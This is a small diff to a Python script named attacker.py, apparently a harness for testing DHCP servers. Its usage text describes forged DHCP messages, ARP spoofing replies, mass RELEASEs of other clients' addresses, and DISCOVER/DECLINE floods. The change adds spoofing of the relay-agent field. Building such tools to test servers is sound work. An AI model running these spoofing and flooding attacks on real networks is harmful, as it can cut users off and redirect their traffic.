@@ -4,7 +4,7 @@
     attacker.py IF dhcp TYPE [KEY=VALUE...]   a DHCP message, and all that servers say on IF in the half second after it, one line
                                               each: "to MAC ADDRESS gives ADDRESS FILE". Keys: chaddr, ether (the frame's
                                               MAC), source, port, ciaddr, asked (50), server (54), class (60), arch (93),
-                                              user (77), to (ADDRESS@MAC, else a broadcast), dport, hear (seconds)
+                                              user (77), giaddr, to (ADDRESS@MAC, else a broadcast), dport, hear (seconds)
     attacker.py IF arp ADDRESS MAC TIMES      "ADDRESS is at MAC", to everybody
     attacker.py IF releases CHADDR SECONDS                  RELEASEs of CHADDR's, 700 a second
     attacker.py IF flood ADDRESS CHADDR SERVER@MAC SECONDS   read requests from ADDRESS, and DISCOVERs, DECLINEs and RELEASEs of
@@ -40,9 +40,10 @@ def dhcp(kind, words):
     options += option(93, struct.pack("!H", int(k["arch"]))) if "arch" in k else b""
     to, _, to_ether = k.get("to", "255.255.255.255@ff:ff:ff:ff:ff:ff").partition("@")
     chaddr = mac(k["chaddr"]) if "chaddr" in k else own
+    data = message(1, TYPES[kind], chaddr, int.from_bytes(os.urandom(4), "big"), options, k.get("ciaddr", ANY))
+    data = data[:24] + socket.inet_aton(k.get("giaddr", ANY)) + data[28:]
     wire.send(udp(mac(k["ether"]) if "ether" in k else own, mac(to_ether), k.get("source", ANY), to,
-        (int(k.get("port", 68)), int(k.get("dport", 67))),
-        message(1, TYPES[kind], chaddr, int.from_bytes(os.urandom(4), "big"), options, k.get("ciaddr", ANY))))
+        (int(k.get("port", 68)), int(k.get("dport", 67))), data))
     hear(float(k.get("hear", 0.5)))
 
 
